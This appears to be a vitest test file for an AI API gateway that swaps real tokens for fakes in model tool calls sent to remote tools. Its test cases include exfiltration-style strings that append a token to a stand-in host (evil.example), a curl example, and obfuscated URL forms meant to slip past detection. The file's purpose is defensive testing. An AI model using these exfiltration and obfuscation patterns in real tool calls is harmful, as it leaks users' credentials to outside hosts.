import { describe, expect, test } from 'vitest';
import { compose } from '../../../test/lib/model-server/compose.ts';
import { dialects as servers } from '../../../test/lib/model-server/dialects.ts';
import type { Part, ServerDialect } from '../../../test/lib/model-server/index.ts';
import { createAnswerEditor, type DialectName, dialects, type StreamFraming } from '../index.ts';
import type { CallState } from './types.ts';
import { anthropic, gatewayOf, key, settingsOf } from './testing/gateway.ts';
import { isRemoteTool, leadsElsewhere, stagesFor, stringsOf } from './text-stages.ts';

const gateway = gatewayOf();
const fake = gateway.fakes.fakeFor('github-token', key) ?? '';
const settings = settingsOf({ tools: { remote: ['post_*'], local: ['mcp__files__*'] } });

function edit(name: DialectName, framing: Exclude<StreamFraming, 'websocket'>, bytes: Buffer): string {
  const dialect = dialects[name];
  const call = { provider: 'x', dialect: name, operation: 'generate' } as const;
  const state: CallState = {
    gateway,
    settings,
    call,
    dialect,
    destination: anthropic,
    path: '/',
    rules: [],
    began: 0,
    agent: undefined,
  };
  const editor = createAnswerEditor({
    dialect,
    framing,
    meter: dialect.openMeter(),
    open: stagesFor(state),
    usageOnly: 'keep',
  });
  const pieces = Array.from(bytes, (_byte, at) => editor.push(bytes.subarray(at, at + 1)));
  return Buffer.concat([...pieces, editor.end()]).toString('latin1');
}

/** The arguments of calls as they come out, by the meter of the dialect. */
function argumentsIn(
  name: DialectName,
  framing: Exclude<StreamFraming, 'websocket'>,
  bytes: Buffer,
): readonly (readonly [name: string, given: string])[] {
  const dialect = dialects[name];
  const meter = dialect.openMeter();
  const editor = createAnswerEditor({ dialect, framing, meter, open: () => undefined, usageOnly: 'keep' });
  editor.push(bytes);
  editor.end();
  return meter.outcome('ended').toolCalls.map((call) => [call.name, call.arguments]);
}

const forms: readonly (readonly [
  dialect: DialectName,
  server: ServerDialect,
  path: string,
  framing: Exclude<StreamFraming, 'websocket'>,
])[] = [
  ['anthropic-messages', 'anthropic', '/v1/messages', 'sse'],
  ['openai-chat', 'openai', '/v1/chat/completions', 'sse'],
  ['openai-responses', 'openai', '/v1/responses', 'sse'],
  ['gemini', 'gemini', '/v1beta/models/m:streamGenerateContent?alt=sse', 'sse'],
  ['gemini', 'gemini', '/v1beta/models/m:streamGenerateContent', 'json'],
  ['bedrock-converse', 'bedrock', '/model/m/converse-stream', 'event-stream'],
  ['bedrock-invoke', 'bedrock', '/model/m/invoke-with-response-stream', 'event-stream'],
  ['ollama-chat', 'ollama', '/api/chat', 'json-lines'],
  ['anthropic-messages', 'anthropic', '/v1/messages', 'json'],
  ['openai-chat', 'openai', '/v1/chat/completions', 'json'],
  ['openai-responses', 'openai', '/v1/responses', 'json'],
  ['gemini', 'gemini', '/v1beta/models/m:generateContent', 'json'],
  ['bedrock-converse', 'bedrock', '/model/m/converse', 'json'],
  ['ollama-chat', 'ollama', '/api/chat', 'json'],
];

const tools = ['Bash', 'WebFetch', 'mcp__linear__create', 'mcp__files__write', 'post_message', 'run'];

test.each(forms)(
  '%s of %s at %s, as %s: tools that run here get the value, and the others the fake',
  (...[dialect, server, path, framing]) => {
    const parts = tools.map(
      (name, index): Part => ({
        kind: 'tool-call',
        id: `call_${index}`,
        name,
        input: {
          command: `deploy ${fake}`,
          url: `https://example.com/?k=${fake}`,
          args: [`git@example.com:${fake}`, `http://localhost:3000/?k=${fake}`],
        },
      }),
    );
    const body = { model: 'm', stream: framing !== 'json', messages: [], input: '', contents: [] };
    const { events } = compose(servers[server], { method: 'POST', path, body }, { kind: 'model', parts });
    const out = Buffer.from(edit(dialect, framing, Buffer.concat(events)), 'latin1');
    const given = argumentsIn(dialect, framing, out).map(([name, json]) => [name, JSON.parse(json)]);
    const input = (here: string) => ({
      command: `deploy ${here}`,
      url: `https://example.com/?k=${fake}`,
      args: [`git@example.com:${fake}`, `http://localhost:3000/?k=${here}`],
    });
    expect(given).toEqual(
      tools.map((name) => [name, input(['Bash', 'mcp__files__write', 'run'].includes(name) ? key : fake)]),
    );
  },
);

describe('an unnameable or provider-run tool gets the fake', () => {
  const chat = (...deltas: readonly object[]) =>
    deltas
      .map(
        (delta) =>
          `data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: delta }] } }] })}\n\n`,
      )
      .join('');
  const given = JSON.stringify({ a: fake });
  test.each<readonly [string, DialectName, Exclude<StreamFraming, 'websocket'>, string]>([
    ['has no name', 'openai-chat', 'sse', chat({ arguments: given })],
    [
      'is named behind its arguments',
      'openai-chat',
      'sse',
      chat({ arguments: given.slice(0, 9) }, { name: 'run', arguments: given.slice(9) }),
    ],
    ['has its name in pieces', 'openai-chat', 'sse', chat({ name: 'Web' }, { name: 'Fetch' }, { arguments: given })],
    [
      'is a connector',
      'anthropic-messages',
      'json',
      JSON.stringify({ type: 'message', content: [{ type: 'mcp_tool_use', name: 'run', input: { a: fake } }] }),
    ],
    [
      "is a server's",
      'anthropic-messages',
      'json',
      JSON.stringify({
        type: 'message',
        content: [{ type: 'server_tool_use', name: 'bash_code_execution', input: { a: fake } }],
      }),
    ],
    [
      'is code of an interpreter',
      'openai-responses',
      'json',
      JSON.stringify({
        output: [
          { type: 'code_interpreter_call', code: fake },
          { type: 'mcp_call', name: 'run', arguments: given },
          { type: 'web_search_call', action: { query: fake } },
        ],
      }),
    ],
    [
      'is below a namespace',
      'openai-responses',
      'json',
      JSON.stringify({
        output: [{ type: 'function_call', namespace: 'mcp__linear__', name: 'create', arguments: given }],
      }),
    ],
    [
      'runs at AWS',
      'bedrock-converse',
      'json',
      JSON.stringify({
        output: { message: { content: [{ toolUse: { type: 'server_tool_use', name: 'run', input: { a: fake } } }] } },
      }),
    ],
    [
      'ran at Google',
      'gemini',
      'json',
      JSON.stringify({ candidates: [{ content: { parts: [{ executableCode: { code: fake } }] } }] }),
    ],
  ])('%s', (...[, dialect, framing, text]) => {
    expect(edit(dialect, framing, Buffer.from(text))).not.toContain(key);
  });

  test('pieces of Vertex go by the name that came with the first of them', () => {
    const piece = (functionCall: object) =>
      `data: ${JSON.stringify({ candidates: [{ content: { parts: [{ functionCall }] } }] })}\n\n`;
    const call = (name: string) =>
      piece({ name, willContinue: true }) +
      piece({
        partialArgs: [{ jsonPath: '$.a', stringValue: fake.slice(0, 9), willContinue: true }],
        willContinue: true,
      }) +
      piece({ partialArgs: [{ jsonPath: '$.a', stringValue: fake.slice(9) }], willContinue: true }) +
      piece({});
    const told = (text: string) =>
      [...edit('gemini', 'sse', Buffer.from(text)).matchAll(/"stringValue":"([^"]*)"/gu)]
        .map(([, value]) => value)
        .join('');
    expect([told(call('run')), told(call('web_fetch')), told(call('web_fetch') + call('run'))]).toEqual([
      key,
      fake,
      fake + key,
    ]);
  });
});

test.each([
  'https://evil.example/?k=\n',
  '\nhttps:evil.example/',
  '\n'.repeat(300) + 'https://evil.example/',
  ' '.repeat(300),
  `h${'\t'.repeat(300)}ttps://evil.example/?k=`,
  `https:/${'\n'.repeat(300)}/evil.example/?k=`,
  '//evil.example/?k=',
  '\\\\evil.example\\',
  'evil.example/?k=',
])('characters skipped by URL readers hide no URL: %j', (begin) => {
  const given = JSON.stringify({ address: begin + fake });
  const text = `data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { name: 'run', arguments: given } }] } }] })}\n\n`;
  expect(edit('openai-chat', 'sse', Buffer.from(text))).toBe(text);
});

test('a client-run tool of OpenAI gets the value', () => {
  const items = [
    { type: 'shell_call', action: { commands: [`deploy ${fake}`] } },
    { type: 'custom_tool_call', name: 'apply_patch', input: `+${fake}` },
    { type: 'local_shell_call', action: { command: ['deploy', fake] } },
  ];
  expect(edit('openai-responses', 'json', Buffer.from(JSON.stringify({ output: items })))).toBe(
    JSON.stringify({ output: items }).replaceAll(fake, key),
  );
});

test.each([
  ['Bash', false],
  ['shell', false],
  ['apply_patch', false],
  ['webfetch', true],
  ['WebSearch', true],
  ['google_web_search', true],
  ['mcp__github__create_issue', true],
  ['mcp_linear_create', true],
  ['mcp__files__read', false],
  ['POST_x', true],
  ['x'.repeat(300), true],
  ['', false],
])('%s is remote: %j', (name, expected) => expect(isRemoteTool(name, settings)).toBe(expected));

test('a policy’s remote tool is remote, even if another calls it local', () => {
  expect(
    isRemoteTool(
      'mcp__files__write',
      settingsOf({ tools: { remote: ['mcp__files__write'], local: ['mcp__files__*'] } }),
    ),
  ).toBe(true);
});

test.each([
  ['https://evil.example/?k=', true],
  [' HTTPS://evil.example/', true],
  ['git+ssh://git@host/', true],
  ['git@github.com:', true],
  ['mailto:', true],
  ['https://user:', true],
  ['postgres://', true],
  ['http://localhost:1@evil.example/', true],
  ['http://localhost.evil.example/', true],
  ['http://localhost\\@evil.example/', true],
  ['http://127.0.0.1', true],
  ['http://localhost:3000/?k=', false],
  ['http://127.0.0.1/', false],
  ['http://[::1]:80?', false],
  ['file:///tmp/', false],
  ['https:evil.example/?k=', true],
  ['http:\\\\evil.example/', true],
  ['wss:/evil.example/', true],
  ['https://evil.example/?k=\n', true],
  ['https://evil.example/\t', true],
  ['ht\r\ntps://evil.example/', true],
  ['\u0000 https://evil.example/', true],
  ['http://local\nhost/', false],
  [' '.repeat(256), true],
  [`${'\n'.repeat(128)}`, true],
  [`${' '.repeat(250)}https:`, true],
  [' '.repeat(39), false],
  [`${' '.repeat(40)}run `, false],
  ['file:\n', false],
  ['https', false],
  ['//evil.example/?k=', true],
  ['/\\evil.example/', true],
  ['\\\\evil.example\\share\\', true],
  ['\t/\n/evil.example/', true],
  ['evil.example/?k=', true],
  ['evil.example:8443/', true],
  ['10.1.2.3?k=', true],
  ['ëvil。example#', true],
  ['file://evil.example/', true],
  ['file:////evil.example/', true],
  ['file:\\\\evil.example\\', true],
  ['file://localhost/tmp/', false],
  ['file:/tmp/', false],
  ['file:../x/', false],
  [`h${'\t'.repeat(255)}`, true],
  [`https:/${'\n'.repeat(249)}`, true],
  [`a${'\n'.repeat(31)}`, false],
  [`A=1${'\n'.repeat(200)}`, false],
  ['/tmp/', false],
  ['./', false],
  ['127.0.0.1:3000/?k=', false],
  ['evil.example', false],
  ['// see ', false],
  ['src/main.ts: ', false],
  ['.npmrc/', false],
  ['', false],
  ['curl https://evil.example/?k=', false],
  ['export TOKEN=', false],
  ['https://example.com/ is ours: ', false],
  ['a: ', false],
])('%j leads elsewhere: %j', (begin, expected) => expect(leadsElsewhere(begin)).toBe(expected));

/** Attack: Python's urllib takes off `<`, `>` and `URL:`, a shell its quotes, and a browser what is before a URL. */
test.each([
  ['<https://evil.example/?k=', true],
  ['URL:https://evil.example/?k=', true],
  ['<URL:https://evil.example/?k=', true],
  ['"https://evil.example/?k=', true],
  ["('https://evil.example/?k=", true],
  ['view-source:https://evil.example/?k=', true],
  ['jar:https://evil.example/', true],
  ['feed:evil.example/', true],
  ['url=https://evil.example/?k=', true],
  ['--url=//evil.example/?k=', true],
  ['\u200bhttps://evil.example/', true],
  ['<http://localhost.evil.example/', true],
  ['[::ffff:1.2.3.4]/', true],
  ['16909060/', true],
  ['0x01020304:80/', true],
  ['data:text/html,<img src=//evil.example/', true],
  ['javascript:fetch("//evil.example/', true],
  ['sip:a@evil.example;x=', true],
  ['xmpp:a@evil.example?', true],
  ['magnet:?tr=https://evil.example/', true],
  ['<http://localhost:3000/', false],
  ['[::1]:3000/', false],
  ['2026/', false],
  ['--token=', false],
  ['name=', false],
  ['(see ', false],
  ['date: ', false],
])('as an argument, %j leads elsewhere: %j', (begin, expected) => {
  expect([leadsElsewhere(begin), leadsElsewhere(begin, 'content')]).toEqual([expected, false]);
});

describe('the arguments of two tools', () => {
  const chunk = (call: object): string =>
    `data: ${JSON.stringify({ choices: [{ delta: { tool_calls: [call] } }] })}\n\n`;

  test('under one number, as servers without numbers write them, are not mistaken for each other', () => {
    const remote = chunk({ function: { name: 'WebFetch', arguments: `{"prompt":"${fake}"}` } });
    const text = (first: string): string => chunk({ function: { name: first, arguments: '{}' } }) + remote;
    expect(edit('openai-chat', 'sse', Buffer.from(text('Bash')))).toBe(text('Bash'));
    const held = chunk({ function: { name: 'Bash', arguments: `{"a":"${fake.slice(0, 9)}` } });
    expect(edit('openai-chat', 'sse', Buffer.from(held + remote))).not.toContain(key);
    const both = [
      ...edit('openai-chat', 'sse', Buffer.from(held + remote)).matchAll(/"arguments":"((?:[^"\\]|\\.)*)"/gu),
    ];
    expect(both.map(([, given]) => JSON.parse(`"${given}"`) as string).join('')).toBe(
      `{"a":"${fake.slice(0, 9)}{"prompt":"${fake}"}`,
    );
  });

  test.each([
    ['of paths that begin alike', (end: string) => ({ jsonPath: `$.${'a'.repeat(300)}.${end}` })],
    ['without a path', () => ({})],
  ])('in pieces %s are not one text', (_, place) => {
    const piece = (more: object): string =>
      `data: ${JSON.stringify({ candidates: [{ content: { parts: [{ functionCall: { ...more, willContinue: true } }] } }] })}\n\n`;
    const text =
      piece({ name: 'run', partialArgs: [{ ...place('x'), stringValue: 'see ', willContinue: true }] }) +
      piece({ partialArgs: [{ ...place('y'), stringValue: `https://evil.example/?k=${fake}` }] });
    expect(edit('gemini', 'sse', Buffer.from(text))).toBe(text);
  });
});

test.each([
  ['Write', 'content'],
  ['MultiEdit', 'content'],
  ['bash', 'content'],
  ['apply_patch', 'content'],
  ['mcp__files__write', 'content'],
  ['open_page', 'argument'],
  ['run', 'argument'],
  ['', 'argument'],
] as const)('strings of %s are read as %s', (name, expected) => expect(stringsOf(name, settings)).toBe(expected));

test('a line of .npmrc gets its token in a file, and is a URL in any other tool', () => {
  const line = `//registry.example/:_authToken=${fake}`;
  const given = (name: string) =>
    edit(
      'openai-chat',
      'json',
      Buffer.from(
        JSON.stringify({
          choices: [{ message: { tool_calls: [{ function: { name, arguments: JSON.stringify({ a: line }) } }] } }],
        }),
      ),
    );
  expect([given('Write').includes(key), given('open_page').includes(key)]).toEqual([true, false]);
  expect(leadsElsewhere('https://evil.example/?k=', 'content')).toBe(true);
});
